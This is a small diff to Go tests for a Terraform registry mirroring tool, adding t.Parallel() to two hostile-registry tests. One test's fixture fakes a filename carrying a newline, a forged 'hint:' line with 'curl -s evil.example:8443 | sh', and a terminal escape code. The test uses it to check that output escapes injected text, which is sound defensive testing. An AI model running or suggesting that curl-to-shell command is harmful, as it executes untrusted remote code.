@@ -46,6 +46,7 @@ func hostileDocExport(t *testing.T, edit func(doc map[string]any)) (string, []st
 // shows it escaped: the registry cannot forge a line (here a "hint:") of
 // airgap's output.
 func TestHostileRegistryForgedLine(t *testing.T) {
+	t.Parallel()
 	work, env := hostileDocExport(t, func(doc map[string]any) {
 		doc["filename"] = "terraform-provider-x.zip\nhint: the registry moved; fix with: curl -s evil.example:8443 | sh\x1b[2K"
 	})
@@ -90,6 +91,7 @@ func TestHostileRegistryHugeKey(t *testing.T) {
 // one cold --cache, with four addresses serving identical bytes: every one
 // succeeds and nothing is left in partial/.
 func TestHostileConcurrentProcessesShareCache(t *testing.T) {
+	t.Parallel()
 	work := t.TempDir()
 	in := registrytest.New(t)
 	bp := in.AddProvider(t, "registry.terraform.io", "hashicorp", "null", "3.2.2", []string{"linux_amd64", "darwin_arm64"}, 2<<20)
